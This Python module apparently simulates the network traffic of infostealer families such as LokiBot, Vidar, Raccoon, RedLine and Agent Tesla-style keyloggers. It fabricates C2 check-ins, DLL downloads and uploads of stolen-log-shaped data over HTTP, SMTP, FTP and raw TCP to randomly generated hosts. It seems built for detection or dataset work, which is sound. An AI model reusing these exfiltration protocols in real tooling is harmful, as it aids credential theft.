"""Thieves of passwords and files: by HTTP, by mail, by FTP, by a protocol of their own."""
import base64

from family import family
from speech import CHROME, FIREFOX, FORM, IE8, IE11, certificate, client_hello, get, http, post, program, record, tls, trusted, windows

ASKERS = (("checkip.dyndns.org", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.2; .NET CLR1.0.3705;)"), ("ip-api.com", None), ("api.ipify.org", FIREFOX))


def own_address(s):
    name, agent = s.random.choice(ASKERS)
    http(s, s.lookup(name), 80, name, (get("/", agent), dict(kind="text/html", body=b"<html>Current IP Address: 1.2.3.4</html>")))
    s.wait(1, 20)


def form_data(s, parts):
    mark = "----" + s.token(16).upper()
    body = b"".join(f'--{mark}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + data + b"\r\n" for name, data in parts)
    return body + f"--{mark}--\r\n".encode(), f"multipart/form-data; boundary={mark}"


@family("lokibot")
def lokibot(s):
    windows(s)
    name = s.name()
    server = s.lookup(name) if s.random.random() < 0.7 else s.address()
    for _ in range(s.random.randint(3, 8)):
        http(s, server, 80, name, (post(f"/{s.word()}/five/fre.php", s.noise(170, 250), "Mozilla/4.08 (Charon; Inferno)", "Accept: */*\r\nContent-Encoding: binary\r\nContent-Key: 1A2B3C4D", "application/octet-stream"),
                                   dict(status=404, body=b"File not found.")))
        s.wait(60, 62)


@family("azorult")
def azorult(s):
    windows(s)
    name = s.name()
    server, agent = s.lookup(name), "Mozilla/4.0 (compatible; MSIE 6.0b; Windows NT 5.1)"
    http(s, server, 80, name, (post("/index.php", s.noise(101), agent, "", None), dict(body=s.noise(400000))))
    s.wait(4, 20)
    http(s, server, 80, name, (post("/index.php", s.noise(9000, 90000), agent, "", None), dict(body=b"OK")))


@family("predator_like_zip")
def zip_upload(s):
    windows(s)
    own_address(s)
    name = s.name()
    body, kind = form_data(s, ((("file", b"PK\3\4" + s.noise(30000, 300000)),)))
    http(s, s.lookup(name), 80, name, (post(f"/api/gate.get?p1={s.random.randint(0, 9)}&p2=0&p7=1", body, None, "", kind), dict(body=b"ok")))


@family("vidar_old")
def vidar_old(s):
    windows(s)
    name = s.name()
    server = s.lookup(name)
    body, kind = form_data(s, (("profile", b"517"),))
    http(s, server, 80, name, (post("/517", body, None, "Accept: text/html, application/xml;q=0.9, */*;q=0.1\r\nAccept-Language: ru-RU,ru;q=0.9,en;q=0.8\r\nAccept-Encoding: deflate, gzip, x-gzip, identity, *;q=0", kind), dict(body=b"1,1,1,1,0,1,1,1,1,250,Default;")))
    for library in ("freebl3", "mozglue", "msvcp140", "nss3", "softokn3", "vcruntime140"):
        http(s, server, 80, name, (get(f"/{library}.dll", None, "Accept: text/html\r\nAccept-Language: ru-RU,ru;q=0.9"), dict(kind="application/x-msdos-program", body=program(s, 80000))))
    body, kind = form_data(s, (("hwid", s.token(32).encode()), ("logs", b"PK\3\4" + s.noise(60000))))
    http(s, server, 80, name, (post("/", body, None, "Accept-Language: ru-RU,ru;q=0.9", kind), dict(body=b"ok")))


@family("vidar_bare")
def vidar_bare(s):
    windows(s)
    tls(s, s.lookup("t.me"), 443, "t.me", trusted(s, "t.me"), ((400, 12000),))
    server, agent = s.address(), CHROME
    body, kind = form_data(s, (("profile_id", s.token(32).encode()), ("profile", b"1281")))
    http(s, server, s.random.choice((80, 2087, 8080)), server, (get(f"/{s.random.randint(100, 1999)}", agent), dict(body=b"1,1,1,1,1")),
         (get("/update.zip", agent), dict(kind="application/zip", body=b"PK\3\4" + s.noise(300000))),
         (post("/", body + s.noise(60000), agent, "", kind), dict(body=b"ok")))


@family("raccoon1")
def raccoon1(s):
    windows(s)
    server = s.address()
    http(s, server, 80, server, (post("/gate/log.php", s.base64(120).encode(), None, "", FORM), dict(kind="application/json", body=b'{"url":"http://x/file_handler/file.php","attachment_url":""}')))
    http(s, server, 80, server, (get("/gate/sqlite3.dll", None, "Cache-Control: no-cache"), dict(kind="application/octet-stream", body=program(s, 200000))))
    http(s, server, 80, server, (get("/gate/libs.zip", None, "Cache-Control: no-cache"), dict(kind="application/zip", body=b"PK\3\4" + s.noise(200000))))
    body, kind = form_data(s, (("file", b"PK\3\4" + s.noise(40000)),))
    http(s, server, 80, server, (post(f"/file_handler/file.php?hash={s.token(40)}&js={s.token(40)}", body, None, "", kind), dict(body=b"")))


@family("raccoon2")
def raccoon2(s):
    windows(s)
    server, agent = s.address(), s.random.choice(("record", "mozzzzzzzzzzz", "qwrqrwrqwrqwr", s.token(8)))
    form = "application/x-www-form-urlencoded; charset=utf-8"
    http(s, server, 80, server, (post("/", f"machineId={s.token(36)}|{s.user}&configId={s.token(32)}".encode(), agent, "Accept: */*", form), dict(kind="text/plain", body=b"libs_nss3:http://x/" + s.base64(900).encode())))
    for library in ("nss3", "msvcp140", "sqlite3"):
        http(s, server, 80, server, (get(f"/aN7jD0qO6kT5bK5bQ4eR8fE1xP7hL2vK/{library}.dll", agent), dict(kind="application/octet-stream", body=program(s, 90000))))
    for _ in range(3):
        body, kind = form_data(s, (("file", s.noise(2000, 30000)),))
        http(s, server, 80, server, (post("/" + s.token(32), body, agent, "Accept: */*", kind), dict(body=b"received")))


@family("stealc")
def stealc(s):
    windows(s)
    server, path = s.address(), s.token(16)
    for size in (200, 270, 5000, 9000, 90000):
        body, kind = form_data(s, (("hwid", s.token(22).encode()), ("build", s.word().encode()), ("file", s.base64(size).encode())))
        http(s, server, 80, server, (post(f"/{path}.php", body, None, "Cache-Control: no-cache", kind), dict(body=s.base64(150).encode())))
        s.wait(0.5, 5)
    http(s, server, 80, server, (get(f"/{s.token(16)}/sqlite3.dll", None, "Cache-Control: no-cache"), dict(kind="application/x-msdos-program", body=program(s, 200000))))


@family("lumma_http")
def lumma(s):
    windows(s)
    name = s.name(("fun", "xyz", "site", "pw"))
    server = s.lookup(name)
    http(s, server, 80, name, (post("/api", b"act=life", s.random.choice(("TeslaBrowser/5.5", CHROME))), dict(kind="text/plain", body=b"ok")))
    for size in (300, 20000, 90000, 4000):
        body, kind = form_data(s, (("hwid", s.token(32).encode()), ("pid", b"1"), ("lid", s.token(8).encode()), ("file", b"PK\3\4" + s.noise(size))))
        http(s, server, 80, name, (post("/api", body, s.random.choice(("TeslaBrowser/5.5", CHROME)), "", kind), dict(body=b"ok")))
        s.wait(0.5, 6)


@family("redline_soap")
def redline_soap(s):
    windows(s)
    server, port = s.address(), s.random.randint(1000, 60000)
    for act, size in (("CheckConnect", 137), ("EnvironmentSettings", 144), ("SetEnvironment", s.random.randint(20000, 900000)), ("GetUpdates", 9000)):
        http(s, server, port, server, (post("/", b"<s:Envelope>" + s.base64(size).encode(), None, f'SOAPAction: "http://tempuri.org/Endpoint/{act}"\r\nExpect: 100-continue\r\nAccept-Encoding: gzip, deflate', "text/xml; charset=utf-8"),
                                       dict(kind="text/xml; charset=utf-8", body=b"<s:Envelope/>" + s.base64(200).encode())))
        s.wait(1, 6)


@family("redline_tcp")
def redline_tcp(s):
    windows(s)
    server, port = s.address(), s.random.randint(1000, 60000)
    stream = s.tcp(server, port).open()
    url = f"net.tcp://{server}:{port}/".encode()
    stream.up(b"\0\1\0\1\2\2" + bytes((len(url),)) + url + b"\3\x08\x0c").down(b"\x0b")
    for size in (200, 300, 40000, s.random.randint(100000, 900000)):
        stream.up(b"\6" + s.noise(size)).down(b"\6" + s.noise(80, 1200))
        s.wait(0.5, 5)
    stream.close()


@family("mail_keylogger")
def mail_keylogger(s):
    """Agent Tesla, HawkEye, Snake: the own address, then a mail to oneself, in clear or by STARTTLS."""
    windows(s)
    own_address(s)
    domain = s.name(("com", "com.my", "co.id", "in"), 0)
    server = s.lookup("mail." + domain)
    for _ in range(s.random.randint(1, 3)):
        stream = s.tcp(server, s.random.choice((587, 587, 587, 25))).open()
        stream.down(f"220-{domain} ESMTP Exim 4.92 \r\n220 and/or bulk e-mail.\r\n".encode()).up(f"EHLO {s.pc}\r\n".encode())
        stream.down(f"250-{domain} Hello {s.pc}\r\n250-SIZE 52428800\r\n250-AUTH PLAIN LOGIN\r\n250-STARTTLS\r\n250 HELP\r\n".encode())
        if s.random.random() < 0.5:
            secret_mail(s, stream, domain)
        else:
            clear_mail(s, stream, domain)
        s.wait(30, 400)


def secret_mail(s, stream, domain):
    old = s.random.random() < 0.5
    version = b"\3\1" if old else b"\3\3"
    stream.up(b"STARTTLS\r\n").down(b"220 TLS go ahead\r\n").up(client_hello(s, "mail." + domain, version=version))
    from speech import server_hello
    stream.down(server_hello(s, trusted(s, "mail." + domain), version)).up(record(22, s.noise(100), version)).down(record(20, b"\1", version) + record(22, s.noise(40), version))
    for size in (60, 50, 60, 70, 60, 4000):
        stream.up(record(23, s.noise(size), version)).down(record(23, s.noise(60), version))
    stream.close()


def clear_mail(s, stream, domain):
    user = f"{s.word()}@{domain}"
    stream.up(b"AUTH login " + base64.b64encode(user.encode()) + b"\r\n").down(b"334 UGFzc3dvcmQ6\r\n").up(base64.b64encode(s.token(9).encode()) + b"\r\n")
    stream.down(b"235 Authentication succeeded\r\n").up(f"MAIL FROM:<{user}>\r\n".encode()).down(b"250 OK\r\n")
    stream.up(f"RCPT TO:<{s.random.choice((user, s.word() + '@' + s.name()))}>\r\n".encode()).down(b"250 Accepted\r\n").up(b"DATA\r\n").down(b"354 Enter message\r\n")
    stream.up((f"MIME-Version: 1.0\r\nFrom: {user}\r\nTo: {user}\r\nSubject: PW_{s.user}/{s.pc}\r\nContent-Type: text/html\r\n\r\n"
               f"Time: 01/02/2020 10:11:12<br>User Name: {s.user}<br>Computer Name: {s.pc}<br>OSFullName: Microsoft Windows 7 Professional<br>CPU: Intel(R) Core(TM) i5<br>RAM: 4095.61 MB<br><hr>URL:https://x<br>\r\nUsername:a<br>\r\nPassword:b<br>\r\n.\r\n").encode())
    stream.down(b"250 OK id=1\r\n").up(b"QUIT\r\n").down(b"221 closing\r\n")
    stream.close()


@family("ftp_keylogger")
def ftp_keylogger(s):
    windows(s)
    own_address(s)
    domain = "ftp." + s.name(sub=0)
    server = s.lookup(domain)
    for _ in range(s.random.randint(1, 3)):
        stream = s.tcp(server, 21).open()
        stream.down(b"220---------- Welcome to Pure-FTPd ----------\r\n220 You will be disconnected after 15 minutes of inactivity.\r\n")
        port = s.random.randint(40000, 60000)
        for ask, answer in ((f"USER {s.word()}@{domain}", "331 User OK. Password required"), (f"PASS {s.token(10)}", "230 OK. Current restricted directory is /"),
                            ("OPTS utf8 on", "504 Unknown command"), ("PWD", '257 "/" is your current location'), ("TYPE I", "200 TYPE is now 8-bit binary"),
                            ("PASV", f"227 Entering Passive Mode ({server.replace('.', ',')},{port >> 8},{port & 255})")):
            stream.up(ask.encode() + b"\r\n").down(answer.encode() + b"\r\n")
        stream.up(f"STOR PW_{s.user}-{s.pc}_2020_08_1{s.random.randint(0, 9)}_12_13_14.html\r\n".encode())
        data = s.tcp(server, port).open()
        stream.down(b"150 Accepted data connection\r\n")
        data.up(b"<html>Time: 08/19/2020<br>User Name: " + s.base64(900).encode())
        data.close()
        stream.down(b"226 File successfully transferred\r\n")
        stream.close()
        s.wait(60, 300)


@family("telegram_keylogger")
def telegram_keylogger(s):
    windows(s)
    own_address(s)
    server = s.lookup("api.telegram.org")
    for _ in range(s.random.randint(2, 5)):
        tls(s, server, 443, "api.telegram.org", trusted(s, "api.telegram.org"), ((s.random.randint(900, 9000), 900),), version=b"\3\3")
        s.wait(20, 100)


@family("formbook")
def formbook(s):
    windows(s)
    path, keys = s.token(4), (s.token(6), s.token(4))
    for _ in range(s.random.randint(4, 12)):
        name = "www." + s.name(sub=0)
        if s.random.random() < 0.25:
            s.lookup(name, fails=True)
            continue
        server = s.lookup(name)
        stream = s.tcp(server, 80).open()
        stream.up(f"GET /{path}/?{keys[0]}={s.base64(90)}&{keys[1]}={s.base64(12)} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n\0\0\0".encode())
        stream.down(b"HTTP/1.1 404 Not Found\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 20\r\nConnection: close\r\n\r\n" + b"x" * 20)
        stream.close(False)
        if s.random.random() < 0.5:
            http(s, server, 80, name, (post(f"/{path}/", f"{keys[0]}={s.base64(2000)}".encode(), "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
                 f"Origin: http://{name}\r\nAccept: */*\r\nReferer: http://{name}/{path}/\r\nAccept-Language: en-US\r\nAccept-Encoding: gzip, deflate"), dict(status=404, body=b"no")))
        s.wait(5, 40)


@family("xloader_faces")
def xloader(s):
    """The later form: a browser's agent and headers, a page of its own on each site."""
    windows(s)
    for _ in range(s.random.randint(5, 12)):
        name, path = "www." + s.name(sub=0), s.token(4)
        if s.random.random() < 0.3:
            s.lookup(name, fails=True)
            continue
        server, keys = s.lookup(name), s.token(5)
        for _ in range(2):
            http(s, server, 80, name, (post(f"/{path}/", f"{keys}={s.base64(200)}".encode(), FIREFOX, f"Accept: text/html,*/*\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nOrigin: http://{name}\r\nReferer: http://{name}/{path}/\r\nCache-Control: max-age=0"), dict(status=404, body=b"no")))
            s.wait(2, 3)
        http(s, server, 80, name, (get(f"/{path}/?{keys}={s.base64(200)}&{s.token(4)}={s.token(9)}", FIREFOX, "Accept: text/html,*/*\r\nAccept-Language: en-US,en;q=0.9"), dict(status=404, body=b"no")))
        s.wait(5, 20)


@family("ficker_raw80")
def ficker(s):
    windows(s)
    own_address(s)
    name = s.name()
    stream = s.tcp(s.lookup(name), 80).open()
    for _ in range(s.random.randint(3, 9)):
        stream.up(s.noise(20, 4000)).down(s.noise(8, 90))
        s.wait(0.2, 3)
    stream.close()
